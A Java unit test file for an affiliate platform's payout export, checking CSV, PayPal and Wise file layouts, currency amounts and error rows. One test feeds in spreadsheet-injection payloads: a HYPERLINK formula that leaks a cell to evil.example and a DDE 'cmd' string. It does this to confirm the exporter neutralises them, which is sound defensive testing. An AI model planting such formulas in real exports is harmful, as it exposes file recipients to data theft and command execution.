package clickledger.api.payout;

import static org.assertj.core.api.Assertions.assertThat;

import clickledger.api.Rfc4180;
import clickledger.api.TestApi;
import clickledger.api.commission.CommissionService;
import clickledger.api.event.Ledger;
import clickledger.api.webhook.WebhookOutbox;
import clickledger.common.id.Ulid;
import clickledger.web.Json;
import com.fasterxml.jackson.databind.JsonNode;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.stream.IntStream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * The payment files: each format's layout, amounts in the currency's decimals that add up to the
 * payouts, rows that cannot be paid kept with their error, and cells a spreadsheet cannot run.
 * Payout details come from issue 15's partner pages; until they exist the export is driven here
 * with a lookup that answers for the partners the test names.
 */
class PayoutExportTest {
    private static TestApi api;
    private static PayoutFixture fixture;
    private static PayoutService service;
    private static final Map<UUID, PayoutDetails> DETAILS = new HashMap<>();

    @BeforeAll
    static void start() {
        api = TestApi.start();
        fixture = new PayoutFixture(api);
        service = new PayoutService(
                api.dsl(),
                api.clock(),
                new WebhookOutbox(api.clock()),
                CommissionService.CommissionListener.NONE,
                PayoutPaidListener.NONE);
    }

    @AfterAll
    static void stop() {
        api.close();
    }

    private static String export(PayoutExport.Format format, PayoutRepository.Filter filter) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try {
            new PayoutExport(service, ids -> {
                        Map<UUID, PayoutDetails> found = new HashMap<>();
                        ids.forEach(id -> {
                            if (DETAILS.containsKey(id)) {
                                found.put(id, DETAILS.get(id));
                            }
                        });
                        return found;
                    })
                    .write(format, filter, out);
        } catch (IOException e) {
            throw new AssertionError(e);
        }
        return out.toString(StandardCharsets.UTF_8);
    }

    private static PayoutRepository.Filter batch(JsonNode created) {
        return new PayoutRepository.Filter(
                null, null, null, UUID.fromString(uuid(created.get("batchId").asText())), null, null);
    }

    private static String uuid(String ulid) {
        return Ulid.parse(ulid).orElseThrow().toString();
    }

    @Test
    void everyFormatsAmountsAddUpToThePayoutsAndTheirCommissionsInUsdJpyAndKwd() {
        for (String[] amounts : List.of(
                new String[] {"USD", "0.01", "12.34", "100.00"},
                new String[] {"JPY", "1", "250", "9999"},
                new String[] {"KWD", "0.001", "7.125", "0.250"})) {
            String currency = amounts[0];
            String program = fixture.program(currency);
            List<Ledger.Partner> partners = List.of(fixture.partner(program), fixture.partner(program));
            BigDecimal commissions = BigDecimal.ZERO;
            for (Ledger.Partner partner : partners) {
                for (int i = 1; i < amounts.length; i++) {
                    commissions = commissions.add(new BigDecimal(
                            fixture.earn(program, partner, amounts[i]).amount()));
                }
            }
            DETAILS.put(uuidOf(partners.get(0)), new PayoutDetails("paypal", "ada@paypal.example", null));
            DETAILS.put(uuidOf(partners.get(1)), new PayoutDetails("wise", null, "IBAN DE89 3704 0044 0532 0130 00"));
            JsonNode created = api.post("/v1/payouts", "{\"programId\":\"%s\"}".formatted(program))
                    .expect(201)
                    .json();
            BigDecimal payouts = BigDecimal.ZERO;
            for (JsonNode payout : created.get("items")) {
                payouts = payouts.add(new BigDecimal(payout.get("amount").asText()));
            }
            assertThat(payouts).as(currency).isEqualByComparingTo(commissions);

            List<List<String>> csv = Rfc4180.parse(export(PayoutExport.Format.CSV, batch(created)));
            List<List<String>> payPal = Rfc4180.parse(export(PayoutExport.Format.PAYPAL, batch(created)));
            List<List<String>> wise = Rfc4180.parse(export(PayoutExport.Format.WISE, batch(created)));

            assertThat(csv.getFirst())
                    .startsWith("payoutId", "partnerId", "name", "email", "currency", "amount", "commissionCount");
            assertThat(csv).hasSize(3);
            assertThat(payPal).as("no header").hasSize(2);
            assertThat(wise.getFirst())
                    .containsExactly(
                            "name",
                            "recipientEmail",
                            "paymentReference",
                            "receiverType",
                            "amountCurrency",
                            "amount",
                            "sourceCurrency",
                            "targetCurrency",
                            "bankDetails",
                            "error");
            assertThat(sum(csv.subList(1, 3), 5)).as(currency).isEqualByComparingTo(payouts);
            assertThat(sum(payPal, 1)).as(currency).isEqualByComparingTo(payouts);
            assertThat(sum(wise.subList(1, 3), 5)).as(currency).isEqualByComparingTo(payouts);
            for (List<String> row : csv.subList(1, 3)) {
                // Written in the currency's own decimals, exactly as the api shows the payout.
                assertThat(row.get(5))
                        .matches(
                                currency.equals("JPY")
                                        ? "\\d+"
                                        : currency.equals("KWD") ? "\\d+\\.\\d{3}" : "\\d+\\.\\d{2}");
                assertThat(row.get(4)).isEqualTo(currency);
            }
            // The PayPal file pays the PayPal partner; the Wise partner's row says why it cannot.
            List<String> payPalRow = payPal.stream()
                    .filter(row -> row.getFirst().equals("ada@paypal.example"))
                    .findFirst()
                    .orElseThrow();
            assertThat(payPalRow).hasSize(6);
            assertThat(payPalRow.get(2)).isEqualTo(currency);
            assertThat(payPalRow.get(5)).isEqualTo("PAYPAL");
            List<String> notPayPal = payPal.stream()
                    .filter(row -> row.getFirst().isEmpty())
                    .findFirst()
                    .orElseThrow();
            assertThat(notPayPal).hasSize(8);
            assertThat(notPayPal.get(7)).isEqualTo("payout method is wise, not paypal");
            List<String> wiseRow = wise.stream()
                    .filter(row -> row.get(8).startsWith("IBAN"))
                    .findFirst()
                    .orElseThrow();
            assertThat(wiseRow.get(3)).isEqualTo("PERSON");
            assertThat(wiseRow.get(4)).isEqualTo("target");
            assertThat(wiseRow.get(6)).isEqualTo(currency);
            assertThat(wiseRow.get(7)).isEqualTo(currency);
            assertThat(wiseRow.get(2)).startsWith("CL").hasSize(18);
            assertThat(wiseRow.get(9)).isEmpty();
        }
    }

    @Test
    void rowsWithoutDetailsOrAlreadySettledAreListedWithTheirErrorNeverDropped() {
        String program = fixture.program("USD");
        Ledger.Partner noDetails = fixture.partner(program);
        Ledger.Partner paid = fixture.partner(program);
        Ledger.Partner cancelled = fixture.partner(program);
        DETAILS.put(uuidOf(paid), new PayoutDetails("paypal", "paid@paypal.example", null));
        DETAILS.put(uuidOf(cancelled), new PayoutDetails("paypal", "gone@paypal.example", null));
        fixture.earn(program, noDetails, "1.00");
        fixture.earn(program, paid, "2.00");
        fixture.earn(program, cancelled, "3.00");
        JsonNode created = api.post("/v1/payouts", "{\"programId\":\"%s\"}".formatted(program))
                .expect(201)
                .json();
        for (JsonNode payout : created.get("items")) {
            String partner = payout.get("partnerId").asText();
            if (partner.equals(paid.id())) {
                api.post("/v1/payouts/" + payout.get("id").asText() + "/mark-paid", "{\"reference\":\"REF-9\"}")
                        .expect(200);
            } else if (partner.equals(cancelled.id())) {
                api.post("/v1/payouts/" + payout.get("id").asText() + "/cancel", null)
                        .expect(200);
            }
        }

        List<List<String>> payPal = Rfc4180.parse(export(PayoutExport.Format.PAYPAL, batch(created)));

        assertThat(payPal).hasSize(3);
        Map<String, String> errorByAmount = new HashMap<>();
        for (List<String> row : payPal) {
            assertThat(row.getFirst()).as("nobody is paid from this file").isEmpty();
            errorByAmount.put(row.get(1), row.get(7));
        }
        assertThat(errorByAmount)
                .containsEntry("1.00", "no payout details")
                .containsEntry("2.00", "already paid (reference REF-9)")
                .containsEntry("3.00", "cancelled");
        List<List<String>> csv = Rfc4180.parse(export(PayoutExport.Format.CSV, batch(created)));
        assertThat(csv).hasSize(4);
        assertThat(csv.stream().map(row -> row.get(7)).toList()).contains("pending", "paid", "cancelled");
    }

    @Test
    void cellsASpreadsheetWouldRunAsFormulasAreEscaped() {
        String program = fixture.program("USD");
        List<String> hostile = List.of(
                "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
                "+1+2",
                "-3+4",
                "@SUM(1)",
                "\uff1dSUM(1)",
                "Ada \"The\" Lovelace, PhD",
                "Plain name");
        for (String name : hostile) {
            String partner = api.post(
                            "/v1/partners",
                            "{\"email\":\"%s@example.com\",\"name\":%s}"
                                    .formatted(TestApi.unique("hostile"), Json.MAPPER.valueToTree(name)))
                    .expect(201)
                    .json()
                    .get("id")
                    .asText();
            String link = api.post(
                            "/v1/links", "{\"programId\":\"%s\",\"partnerId\":\"%s\"}".formatted(program, partner))
                    .expect(201)
                    .json()
                    .get("id")
                    .asText();
            fixture.earn(program, new Ledger.Partner(partner, link), "1.00");
            DETAILS.put(
                    Ulid.parse(partner).orElseThrow(), new PayoutDetails("wise", null, "=cmd|' /C calc'!A0\nline two"));
        }
        JsonNode created = api.post("/v1/payouts", "{\"programId\":\"%s\"}".formatted(program))
                .expect(201)
                .json();

        String csv = export(PayoutExport.Format.CSV, batch(created));
        String wise = export(PayoutExport.Format.WISE, batch(created));

        for (String name : hostile) {
            String expected = name.equals("Plain name") || name.startsWith("Ada") ? name : "'" + name;
            String cell = "\"" + expected.replace("\"", "\"\"") + "\"";
            assertThat(csv).as(name).contains("," + cell + ",");
            assertThat(wise).as(name).contains(cell + ",");
        }
        assertThat(wise).contains("\"'=cmd|' /C calc'!A0\nline two\"");
        assertThat(wise).doesNotContain(",=", ",\"=", ",+", ",\"+", ",-", ",\"-", ",@", ",\"@");
        // What names cannot hold (control characters, leading blanks) may still come from elsewhere.
        for (String value : List.of("\tTab", "\rReturn", "\0x", "  =SUM(1)", "\u3000+1", "-12.50", "\uff20x")) {
            assertThat(SpreadsheetCsv.guarded(value)).as(value).isEqualTo("'" + value);
        }
        for (String value : List.of("", "Ada", "a=b", "12.50", "'quoted")) {
            assertThat(SpreadsheetCsv.guarded(value)).as(value).isEqualTo(value);
        }
    }

    @Test
    void theExportRouteStreamsTheChosenFormatAndRefusesWhatItCannotWrite() {
        String usd = fixture.program("USD");
        fixture.earn(usd, fixture.partner(usd), "5.00");
        String usdPayout = fixture.batch(usd).getFirst().get("id").asText();
        String eur = fixture.program("EUR");
        fixture.earn(eur, fixture.partner(eur), "6.00");
        String eurPayout = fixture.batch(eur).getFirst().get("id").asText();
        String both = usdPayout + "," + eurPayout;

        TestApi.Response csv = api.get("/v1/payouts/export?ids=" + both).expect(200);
        assertThat(csv.header("Content-Type")).startsWith("text/csv");
        assertThat(csv.header("Content-Disposition")).startsWith("attachment; filename=\"payouts-csv-");
        assertThat(Rfc4180.parse(csv.body())).hasSize(3);
        assertThat(Rfc4180.parse(csv.body()).get(1).get(12)).isEqualTo("no payout details");
        TestApi.Response mixed = api.get("/v1/payouts/export?format=paypal&ids=" + both);
        assertThat(mixed.expect(400).errorFields()).containsExactly("currency");
        assertThat(Rfc4180.parse(api.get("/v1/payouts/export?format=paypal&currency=EUR&ids=" + both)
                                .expect(200)
                                .body())
                        .getFirst()
                        .get(2))
                .isEqualTo("EUR");
        assertThat(api.get("/v1/payouts/export?format=xlsx").expect(400).errorFields())
                .containsExactly("format");
        assertThat(api.get("/v1/payouts/export?ids=nope").expect(400).errorFields())
                .containsExactly("ids");
        api.get("/v1/payouts/export?ids=01JZZZZZZZZZZZZZZZZZZZZZZZ").expect(404);
        String tooMany = String.join(
                ",",
                IntStream.range(0, 201)
                        .mapToObj(i -> Ulid.encode(UUID.randomUUID()))
                        .toList());
        assertThat(api.get("/v1/payouts/export?ids=" + tooMany).expect(400).errorFields())
                .containsExactly("ids");
    }

    private static UUID uuidOf(Ledger.Partner partner) {
        return Ulid.parse(partner.id()).orElseThrow();
    }

    private static BigDecimal sum(List<List<String>> rows, int column) {
        BigDecimal sum = BigDecimal.ZERO;
        for (List<String> row : rows) {
            sum = sum.add(new BigDecimal(row.get(column)));
        }
        return sum;
    }
}
